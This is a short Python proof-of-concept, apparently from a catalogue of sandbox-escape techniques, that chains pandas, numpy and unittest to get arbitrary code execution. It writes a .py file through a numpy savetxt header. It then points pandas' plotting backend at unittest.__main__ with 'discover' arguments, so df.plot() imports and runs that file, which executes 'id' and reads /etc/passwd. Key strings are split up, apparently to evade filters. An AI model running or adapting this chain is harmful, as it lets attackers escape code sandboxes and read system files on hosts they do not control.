# source: pandas 1.5.3 _config/config.py DictWrapper.d + plotting/_core.py _load_backend; stdlib unittest/__main__.py (main() at import, discover imports test*.py); np.savetxt header as file body
# family: pandas plotting backend via raw config dict -> import of unittest.__main__ with argv changed via alias; .py written via f-string extension field
# goal: arbitrary code execution (runs id, reads /etc/passwd)
import sys
import numpy as np
import pandas as pd
ext = "py"
code = "import subprocess; print(subprocess.run(['id'], capture_output=True, text=True).stdout); print(open('/etc/passwd').read()[:200])"
np.savetxt(f"test_q.{ext}", np.zeros((0, 1)), header=code, comments="")
argv = sys.argv
argv.extend(["discover", "-s", ".", "-p", "test_q*"])
u = "_" * 2
cfg = pd.options.d
key = "back" + "end"
cfg["plotting"][key] = "unittest." + u + "main" + u
df = pd.DataFrame({"a": [1.0, 2.0]})
try:
    df.plot()
except SystemExit as e:
    print("exit", e.code)
except Exception as e:
    print("err", e)
